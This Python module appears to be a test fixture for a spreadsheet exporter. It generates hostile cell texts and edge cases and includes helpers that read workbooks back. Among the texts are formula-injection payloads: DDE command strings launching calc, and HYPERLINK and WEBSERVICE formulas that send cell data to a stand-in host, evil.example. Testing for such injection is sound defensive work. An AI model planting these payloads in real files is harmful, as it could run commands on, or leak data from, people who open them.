"""Texts that spreadsheets get wrong, and how a file is read back."""

import io
import re
from collections.abc import Iterator

from openpyxl import load_workbook
from openpyxl.workbook import Workbook

_BEGINNINGS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "＝",
    "＋",
    "－",
    "＠",
    "﹦",
    "−",
    "'",
    '"',
    " =",
    "\u200b=",
    "\ufeff=",
    "",
)
_ENDINGS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1,"ici")',
    "SUM(A1:A9)*;=1+1,=2+2\n=3+3\t@x",
    'WEBSERVICE("http://evil.example")',
    "",
    " un élément de liste, - puis un autre",
    'DDE("cmd";"/C calc";"x")',
)
_ODD = (
    "#N/A",
    "#REF!",
    "TRUE",
    "1e5",
    "00123",
    "2027-03-02",
    "12/03/2027",
    "_x0041_",
    "_x005F_x0041_",
    "_x000D__x000d__X0041_",
    "a\x00b\x01c\x1fd\x7fe\x9f",
    "a\ud800b\udfffc",
    "\ufffe\uffff",
    "ligne 1\r\nligne 2\rligne 3\nligne 4\x85ligne 5",
    "  avant et après  ",
    "\u202eevil\u202c",
    "e\u0301 👩‍👩‍👧‍👦 🏳️‍🌈",
    "<b>&amp;</b> ]]> <!-- x --> &#0; <![CDATA[",
    "<!channel> <@U1> [x](http://e) </at> {{DATE()}}",
    "=" * 32_766 + "é",
    "x" * 32_767,
    "x" * 32_768,
    "👍" * 20_000,
    "_x0041_" * 5_000,
    "=1+1\n" * 20_000,
    " " * 40_000 + "=1",
    "mot " * 30_000,
    "漢字" * 20_000,
    "\n" * 300,
)
HOSTILE = [*(before + after for before in _BEGINNINGS for after in _ENDINGS), *_ODD]
HOSTILE += [f"{text[:40]}{number}" for number, text in enumerate(HOSTILE[: 200 - len(HOSTILE)])]
assert len(HOSTILE) >= 200

_REPLACED = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x84\x86-\x9f\ud800-\udfff\ufffe\uffff]")
_ESCAPE = re.compile("_x([0-9A-Fa-f]{4})_")


def kept(text: str) -> str:
    """What a file keeps of a text: all of it, but for line ends and for what no file can hold."""
    return _REPLACED.sub("\ufffd", text.replace("\r\n", "\n").replace("\r", "\n").replace("\x85", "\n"))


def opened(data: bytes) -> Workbook:
    return load_workbook(io.BytesIO(data))


def shown(stored: object) -> str:
    """A text as a spreadsheet program shows it: ECMA-376, ST_Xstring."""
    return _ESCAPE.sub(lambda found: chr(int(found[1], 16)), str(stored or ""))


def cells(workbook: Workbook) -> Iterator[tuple[str, str, object, str]]:
    """Sheet, place, value and type of every cell that holds something."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield sheet.title, cell.coordinate, cell.value, cell.data_type
